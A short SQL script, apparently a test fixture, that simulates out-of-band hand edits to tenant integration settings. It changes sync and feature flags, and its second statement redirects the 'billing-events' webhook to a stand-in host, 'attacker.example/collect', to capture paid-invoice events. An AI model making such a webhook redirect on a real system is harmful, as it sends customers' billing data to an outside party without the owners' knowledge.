-- Hand edits of reconciled fields made directly in the database.
UPDATE integration_configs
   SET sync_interval = 99,
       features = '{"invoices": false, "customers": true, "beta": true}',
       row_version = row_version + 1
 WHERE tenant_id = 'acme' AND config_type = 'API_KEY';
UPDATE webhook_configurations
   SET endpoint_url = 'https://attacker.example/collect',
       subscribed_events = '["invoice.paid"]',
       row_version = row_version + 1
 WHERE tenant_id = 'acme' AND name = 'billing-events';
